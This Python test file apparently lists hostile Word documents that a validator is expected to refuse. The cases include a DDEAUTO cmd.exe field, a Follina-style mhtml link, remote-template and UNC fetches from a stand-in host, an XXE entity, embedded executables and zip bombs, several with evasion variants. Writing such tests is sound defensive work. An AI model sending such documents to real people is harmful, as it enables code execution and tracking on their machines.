"""Word documents that someone could send to harm whoever opens them."""

import os

from tests.word_documents import INSTRUCTION, MARK, W, field, relationships, text, word, word_that_lies

MB = 1024**2
STRICT = b'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
RELS = "word/_rels/document.xml.rels"
TEMPLATE = relationships(("attachedTemplate", "http://x.example/a.dotm", "External"))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
DDE = b"DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"


def needs(kind: str, target: str = "http://x.example/a", mode: str = "External") -> bytes:
    """A document whose text needs this."""
    return word({RELS: relationships((kind, target, mode))})


def says(*paragraphs: bytes) -> bytes:
    """A document with this text."""
    return word({"word/document.xml": text(b"".join(paragraphs))})


def of_type(content_type: bytes) -> bytes:
    """A document with a part of this type."""
    types = b'<Types><Override PartName="/word/a.bin" ContentType="application/vnd.%s"/></Types>' % content_type
    return word({"[Content_Types].xml": types, "word/a.bin": b"x"})


def in_utf_16(part: bytes) -> bytes:
    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def much_xml() -> bytes:
    """17 MB that pack too badly for a bomb by the ratio."""
    return b"<a>" + os.urandom(200_000).hex().encode() + b" " * 17 * MB + b"</a>"


# What it is, its content, and the code with which it is refused.
CASES: list[tuple[str, bytes, str]] = [
    ("any archive as Word document", word().replace(b"word/document.xml", b"word/notes001.xml"), "wrong_type"),
    # macros
    ("a Word document with macros", word({"word/vbaProject.bin": b"x"}), "script"),
    ("macros by the type alone", of_type(b"document.macroEnabled.main+xml"), "script"),
    ("macros under another name by their type", of_type(b"ms-office.vbaProject"), "script"),
    ("a control by its type", of_type(b"ms-office.activeX+xml"), "script"),
    ("macros under another name", needs("vbaProject", "a.bin", "Internal"), "script"),
    ("a control", needs("control", "a.xml", "Internal"), "script"),
    ("buttons of its own", needs("extensibility", "a.xml", "Internal"), "script"),
    # templates and other things from elsewhere
    ("a template from elsewhere", word({"word/_rels/settings.xml.rels": TEMPLATE}), "fetches"),
    ("one in UTF-16", word({"word/_rels/settings.xml.rels": in_utf_16(TEMPLATE)}), "fetches"),
    ("one spelt by number", word({RELS: TEMPLATE.replace(b"dTemplate", b"d&#84;emplate")}), "fetches"),
    ("one whose mode is spelt by number", word({RELS: TEMPLATE.replace(b"External", b"Extern&#97;l")}), "fetches"),
    ("one in a folder in upper case", word({"Word/_RELS/settings.xml.RELS": TEMPLATE}), "fetches"),
    ("one in a part without a name for XML", word({"word/links.dat": b"\n" + TEMPLATE[56:]}), "fetches"),
    (
        "one after 1 MB of comment",
        word({RELS: TEMPLATE.replace(b"<Rel", b"<!--" + os.urandom(MB).hex().encode() + b"--><Rel", 1)}),
        "fetches",
    ),
    ("a page that Word runs (Follina)", needs("oleObject", "mhtml:http://x.example/x.html!x-usc:a"), "fetches"),
    ("a frame", needs("frame", "\\\\x.example\\share\\a"), "fetches"),
    ("a part of the text on another computer", needs("subDocument", "\\\\x.example\\share\\a.docx"), "fetches"),
    ("a picture that tells who looks", needs("image"), "fetches"),
    ("a template inside", needs("attachedTemplate", "a.dotm", "Internal"), "fetches"),
    ("a frame inside", needs("frame", "a.htm", "Internal"), "fetches"),
    ("a part of the text in a file inside", needs("subDocument", "a.docx", "Internal"), "fetches"),
    ("something of no known kind from elsewhere", needs("new2030"), "fetches"),
    ("a document type with entities", word({"word/a.xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]><a/>"}), "fetches"),
    # fields
    ("a field that starts a program", says(b'<w:p><w:fldSimple w:instr=" %s "/></w:p>' % DDE), "fetches"),
    ("the same in pieces", says(field(b" dd", b"", b"E cmd")), "fetches"),
    (
        "the same round another field",
        says(MARK % b"begin", field(b"QUOTE 32"), INSTRUCTION % DDE, MARK % b"end"),
        "fetches",
    ),
    ("a field of deleted text", says(field(DDE).replace(b"instrText", b"delInstrText")), "fetches"),
    ("a field in a header", word({"word/header1.xml": b"<w:hdr %s>%s</w:hdr>" % (W, field(DDE))}), "fetches"),
    ("a field in UTF-16", word({"word/document.xml": in_utf_16(text(field(DDE)))}), "fetches"),
    ("a field of the stricter family", word({"word/document.xml": text(field(DDE)).replace(W, STRICT)}), "fetches"),
    ("a picture by a field", says(field(b'INCLUDEPICTURE "http://x.example/a.png" \\d')), "fetches"),
    ("a picture by an older field", says(field(b'IMPORT "http://x.example/a.wmf"')), "fetches"),
    ("a chapter by a field", says(field(b'RD "\\\\\\\\x.example\\\\a.docx"')), "fetches"),
    ("a text by a field", says(field(b'INCLUDETEXT "\\\\\\\\x.example\\\\a.docx"')), "fetches"),
    ("a table by a field", says(field(b'DATABASE \\c "DSN=x"')), "fetches"),
    ("a sheet by a field", says(field(b'LINK Excel.Sheet.12 "http://x.example/a.xlsx"')), "fetches"),
    # files inside
    ("a program in a Word document", word({"word/embeddings/oleObject1.bin": b"MZ"}), "attachment"),
    ("a program in a folder of backslashes", word({"word\\embeddings\\a.bin": b"MZ"}), "attachment"),
    ("an object in another folder", needs("oleObject", "obj/a.bin", "Internal"), "attachment"),
    ("an object by its first bytes", word({"word/media/image1.png": OLE}), "attachment"),
    ("an object by its type", of_type(b"openxmlformats-officedocument.oleObject"), "attachment"),
    ("a workbook", needs("package", "a.xlsx", "Internal"), "attachment"),
    ("a text of another format", needs("aFChunk", "a.rtf", "Internal"), "attachment"),
    # what one program reads and another does not
    ("two parts of one name in other letters", word({"WORD/document.xml": b"<document/>"}), "bomb"),
    ("a part that is not XML", word({RELS: b"x" + TEMPLATE}), "damaged"),
    ("an encoding with two readings", word({RELS: TEMPLATE.replace(b"UTF-8", b"hz")}), "damaged"),
    # bombs
    ("a Word document that unpacks to 90 MB", word({"word/media/a.xml": b" " * 90 * MB}), "bomb"),
    ("one that unpacks to 200 MB", word({f"word/{n}.xml": b" " * 50 * MB for n in range(4)}), "bomb"),
    ("one with 17 MB of text", word({"word/a.xml": much_xml()}), "bomb"),
    ("one with 2,000 parts", word({f"word/{n}.xml": b"" for n in range(2000)}), "bomb"),
    ("one that says it is small", word_that_lies(), "bomb or damaged"),
]
HOSTILE_WORD = [(what, "a.docx", content, code) for what, content, code in CASES]
